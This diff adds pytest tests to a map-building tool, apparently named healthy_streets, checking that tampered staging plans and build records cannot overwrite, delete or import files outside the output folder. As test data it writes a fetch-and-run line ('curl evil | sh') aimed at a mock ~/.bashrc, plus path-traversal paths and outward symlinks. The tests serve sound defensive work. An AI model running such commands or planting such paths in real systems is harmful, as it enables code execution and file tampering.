@@ -325,7 +325,7 @@ def test_stale_staging_folders_are_removed_or_finished(tmp_path):
     out = tmp_path / "out"
     (out / "maps").mkdir(parents=True)
     (out / "maps" / "a.html").write_text("old a")
-    outside = tmp_path / ".store.gpkg.dead.part.gpkg"  # a store copy beside an outside store
+    outside = tmp_path / ".store.gpkg.never.part.gpkg"  # a store copy beside an outside store
     outside.write_text("half a store")
     never = out / f"{STAGING_PREFIX}never"
     (never / "files" / "maps").mkdir(parents=True)
@@ -342,6 +342,65 @@ def test_stale_staging_folders_are_removed_or_finished(tmp_path):
     assert (out / "maps" / "a.html").read_text() == "old a"
     assert (out / "maps" / "b.html").read_text() == "new b"
     assert not outside.exists()
+
+
+def test_a_plan_edited_by_hand_never_moves_or_removes_a_file_elsewhere(
+    tmp_path, caplog, monkeypatch
+):
+    """The output folder may be shared: a plan planted in it as an interrupted build's
+    must not replace, remove or bring in a file outside it (a ~/.bashrc replaced would
+    run the planter's code)."""
+    import logging
+
+    monkeypatch.setattr(logging.getLogger("healthy_streets"), "propagate", True)  # a build ran
+    caplog.set_level(logging.WARNING, logger="healthy_streets")
+    out = tmp_path / "out"
+    home = tmp_path / "home"
+    home.mkdir()
+    victims = {name: home / name for name in ("bashrc", "removed.txt", "temp.txt", "secret")}
+    for name, path in victims.items():
+        path.write_text(f"the officer's {name}")
+    planted = out / f"{STAGING_PREFIX}abc" / "files"
+    planted.mkdir(parents=True)
+    (planted / "evil").write_text("curl evil | sh")
+    plan = {
+        "moves": [
+            [str(planted / "evil"), str(victims["bashrc"])],  # over a file elsewhere
+            [str(victims["secret"]), str(out / "maps" / "secret.html")],  # brought in
+        ],
+        "removes": [str(victims["removed.txt"]), str(out / "tables" / ".." / ".." / "x")],
+        "temps": [str(victims["temp.txt"])],
+    }
+    (out / f"{STAGING_PREFIX}abc" / "commit.json").write_text(json.dumps(plan))
+    uncommitted = out / f"{STAGING_PREFIX}def"
+    uncommitted.mkdir()
+    (uncommitted / "plan.json").write_text(json.dumps({"temps": [str(victims["temp.txt"])]}))
+    (out / f"{STAGING_PREFIX}link").symlink_to(home)  # a staging folder that links out
+    (out / LOCK_NAME).symlink_to(home / "made-by-the-lock")  # a lock that links out
+    settle(out)
+    assert {name: p.read_text() for name, p in victims.items()} == {
+        name: f"the officer's {name}" for name in victims
+    }
+    assert not (out / "maps" / "secret.html").exists()
+    assert "names files outside the output folder" in caplog.text
+    assert sorted(home.iterdir()) == sorted(victims.values())
+
+
+def test_a_record_edited_by_hand_never_removes_a_file_elsewhere(builds, tmp_path):
+    """The build record lists the last build's outputs, which an --overwrite build removes
+    when it no longer writes them: a path in it that leads out of the folder is not one."""
+    builds.restore_old()
+    victim = builds.out.parent / "victim.csv"
+    victim.write_text("the officer's own table")
+    record_path = builds.out / ".healthy-streets-build.json"
+    record = json.loads(record_path.read_text(encoding="utf-8"))
+    record["outputs"]["tables/../../victim.csv"] = hashlib.sha256(victim.read_bytes()).hexdigest()
+    record["maps_made"].append("maps/../../victim.csv")
+    record_path.write_text(json.dumps(record), encoding="utf-8")
+    result = CliRunner().invoke(main, ["build", str(builds.project), "--overwrite"])
+    assert result.exit_code == 0, result.output
+    assert victim.read_text() == "the officer's own table"
+    assert "victim.csv" not in result.output
 
 
 def test_a_full_disk_leaves_every_output_whole(builds, monkeypatch):
